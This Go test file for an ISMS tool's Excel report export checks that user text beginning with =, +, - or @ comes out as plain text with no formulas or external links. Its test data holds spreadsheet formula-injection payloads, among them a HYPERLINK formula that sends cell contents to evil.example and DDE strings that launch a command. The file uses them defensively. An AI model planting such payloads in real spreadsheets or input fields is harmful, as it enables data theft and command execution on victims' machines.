package report_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/ismsdesk/ismsdesk/backend/isms"
	"github.com/ismsdesk/ismsdesk/backend/report"
	"github.com/ismsdesk/ismsdesk/backend/seed"
	"github.com/ismsdesk/ismsdesk/backend/store"
)

// injections are user texts that a spreadsheet would run as formulas if written as such.
var injections = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=1+1`,
}

// injectedDB holds records whose texts start with =, +, - and @.
func injectedDB(t *testing.T) *store.DB {
	t.Helper()
	db := openDB(t)
	err := db.Update(func(tx *store.Tx) error {
		if err := seed.FirstRun(tx, today); err != nil {
			return err
		}
		owner := &isms.Person{Name: injections[1], Active: true}
		if err := tx.Create(owner, "test"); err != nil {
			return err
		}
		for i, text := range injections {
			r := &isms.Requirement{Ref: "INJ-" + string(rune('A'+i)), Title: text, Text: text, Source: text, Notes: text,
				Evidence: text, SourceType: isms.SourceLegal, Status: isms.CompliancePartial, Applicable: true, OwnerID: owner.ID}
			if err := tx.Create(r, "test"); err != nil {
				return err
			}
			k := &isms.Risk{Ref: "RINJ-" + string(rune('A'+i)), Title: text, Description: text, Asset: text, Threat: text,
				Vulnerability: text, TreatmentPlan: text, Likelihood: 2, Impact: 3, Status: isms.RiskIdentified, OwnerID: owner.ID}
			if err := tx.Create(k, "test"); err != nil {
				return err
			}
		}
		rec, err := tx.ByRef(isms.KindControl, "A.5.1")
		if err != nil {
			return err
		}
		c := rec.(*isms.Control)
		c.Applicability, c.Status, c.Justification, c.Notes = isms.ApplicabilityApplicable, isms.ImplPlanned, injections[0], injections[3]
		return tx.Put(c, "test")
	})
	if err != nil {
		t.Fatal(err)
	}
	return db
}

// TestFormulaInjection checks that user text starting with =, +, - or @ is written as a
// text cell holding exactly what was typed, and that no cell of the workbook has a formula.
func TestFormulaInjection(t *testing.T) {
	db := injectedDB(t)
	for _, name := range []string{"requirements", "gap-analysis", "risks", "soa"} {
		f := export(t, db, name, opts(""))
		found := map[string]bool{}
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c, v := range row {
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					formula, err := f.GetCellFormula(sheet, ref)
					if err != nil {
						t.Fatal(err)
					}
					if formula != "" {
						t.Errorf("%s %s!%s has the formula %q", name, sheet, ref, formula)
					}
					if !slices.Contains(injections, v) {
						continue
					}
					found[v] = true
					typ, err := f.GetCellType(sheet, ref)
					if err != nil {
						t.Fatal(err)
					}
					if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
						t.Errorf("%s %s!%s = %q has cell type %v, want a string", name, sheet, ref, v, typ)
					}
				}
			}
		}
		for _, want := range injections {
			if name != "soa" && !found[want] {
				t.Errorf("%s: the text %q is not shown as typed", name, want)
			}
		}
		if name == "soa" && (!found[injections[0]] || !found[injections[3]]) {
			t.Errorf("soa: the injected justification and notes are not shown as typed")
		}
	}
}

// TestNoFormulasOrExternalLinks checks the raw parts of every demo report: no worksheet
// holds a formula and no part is an external link.
func TestNoFormulasOrExternalLinks(t *testing.T) {
	db := demoDB(t)
	measured := map[string]bool{} // KPIs with a measurement: each has a trend chart
	if err := db.View(func(tx *store.Tx) error {
		return tx.Each(isms.KindMeasurement, func(r isms.Record) error {
			measured[r.(*isms.Measurement).KPIID] = true
			return nil
		})
	}); err != nil {
		t.Fatal(err)
	}
	for _, in := range report.Names() {
		var buf bytes.Buffer
		if err := report.Write(context.Background(), db, in.Name, opts(idFor(in.Name)), &buf); err != nil {
			t.Fatal(err)
		}
		zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
		if err != nil {
			t.Fatal(err)
		}
		charts := 0
		for _, zf := range zr.File {
			if strings.Contains(strings.ToLower(zf.Name), "externallink") {
				t.Errorf("%s: has an external link part %s", in.Name, zf.Name)
			}
			if strings.HasPrefix(zf.Name, "xl/charts/chart") {
				charts++
			}
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") && zf.Name != "xl/workbook.xml" && !strings.HasSuffix(zf.Name, ".rels") {
				continue
			}
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
				t.Errorf("%s: %s holds a formula", in.Name, zf.Name)
			}
			if bytes.Contains(b, []byte(`TargetMode="External"`)) {
				t.Errorf("%s: %s links to an external target", in.Name, zf.Name)
			}
		}
		if want := len(measured) + 4; in.Name == "kpi-dashboard" && charts != want {
			t.Errorf("kpi-dashboard has %d charts, want %d (%d KPI trends, SoA by theme, NCs by stage, NC ageing, risk movement)", charts, want, len(measured))
		}
	}
}

// TestRequirementHeader checks the register's header row: the names the import maps back.
func TestRequirementHeader(t *testing.T) {
	f := export(t, demoDB(t), "requirements", opts(""))
	rows, err := f.GetRows("Requirements")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"Reference", "Title", "Text", "Source type", "Source", "Owner", "Applicable", "Status", "Evidence", "Due date", "Notes"}
	if !slices.Equal(rows[0], want) {
		t.Errorf("header = %q, want %q", rows[0], want)
	}
	if !slices.Equal(report.RequirementColumns, want) {
		t.Errorf("RequirementColumns = %q", report.RequirementColumns)
	}
	if len(rows) != 1+25 {
		t.Errorf("%d rows, want the header and 25 requirements", len(rows))
	}
	// dates are date numbers, not text
	typ, err := f.GetCellType("Requirements", "J2")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := f.GetCellValue("Requirements", "J2", excelize.Options{RawCellValue: true})
	if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString || strings.Contains(raw, "-") {
		t.Errorf("due date J2 is %v %q, want a date number", typ, raw)
	}
}

// TestHash checks that the records' SHA-256 is the same for the same records and changes
// when a record changes.
func TestHash(t *testing.T) {
	db := demoDB(t)
	hash := func() string {
		f := export(t, db, "requirements", opts(""))
		v := rowWith(t, f, "About this report", "SHA-256 of the records")[1]
		if len(v) != 64 {
			t.Fatalf("About this report: SHA-256 of the records %q, want a SHA-256", v)
		}
		return v
	}
	a, b := hash(), hash()
	if a != b {
		t.Errorf("the same records give two hashes: %s, %s", a, b)
	}
	err := db.Update(func(tx *store.Tx) error {
		rec, err := tx.ByRef(isms.KindRequirement, "GDPR-5")
		if err != nil {
			return err
		}
		r := rec.(*isms.Requirement)
		r.Notes = "changed"
		return tx.Put(r, "test")
	})
	if err != nil {
		t.Fatal(err)
	}
	if c := hash(); c == a {
		t.Error("the hash did not change when a requirement changed")
	}
}

// TestErrors checks the error codes: an unknown report, a missing or unknown record.
func TestErrors(t *testing.T) {
	db := demoDB(t)
	cases := []struct {
		name, id string
		want     isms.Code
	}{
		{"no-such-report", "", isms.CodeInvalid},
		{"audit", "", isms.CodeNotFound},
		{"audit", "IA-99", isms.CodeNotFound},
		{"management-review", "0190f3a4-0000-7000-8000-000000000000", isms.CodeNotFound},
	}
	for _, c := range cases {
		err := report.Write(context.Background(), db, c.name, opts(c.id), io.Discard)
		if got := isms.ErrorCode(err); got != c.want {
			t.Errorf("%s %q: code %q (%v), want %q", c.name, c.id, got, err, c.want)
		}
	}
	// a review chosen by reference, and the planned one
	for _, id := range []string{"MR-01", "MR-02"} {
		if err := report.Write(context.Background(), db, "management-review", opts(id), io.Discard); err != nil {
			t.Errorf("review %s: %v", id, err)
		}
	}
	// no held review in an empty database
	empty := openDB(t)
	err := report.Write(context.Background(), empty, "management-review", opts(""), io.Discard)
	if isms.ErrorCode(err) != isms.CodeNotFound {
		t.Errorf("no held review: %v, want not_found", err)
	}
}

// TestCancelAndProgress checks that a cancelled context stops the export and that
// progress reaches its total.
func TestCancelAndProgress(t *testing.T) {
	db := demoDB(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := report.Write(ctx, db, "soa", opts(""), io.Discard); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled export: %v", err)
	}
	o := opts("")
	var last, total, calls int
	o.Progress = func(d, n int) { last, total, calls = d, n, calls+1 }
	if err := report.Write(context.Background(), db, "soa", o, io.Discard); err != nil {
		t.Fatal(err)
	}
	if calls == 0 || last != total || total < 93 {
		t.Errorf("progress: %d calls, last %d of %d", calls, last, total)
	}
}

// TestNames checks the catalogue.
func TestNames(t *testing.T) {
	var names []string
	for _, in := range report.Names() {
		names = append(names, in.Name)
		if in.Title == "" || in.About == "" {
			t.Errorf("%s lacks a title or description", in.Name)
		}
	}
	want := []string{"management-review", "audit", "soa", "requirements", "gap-analysis", "risks", "assets", "kpi-dashboard", "training", "corrective-actions"}
	if !slices.Equal(names, want) {
		t.Errorf("names = %v", names)
	}
}
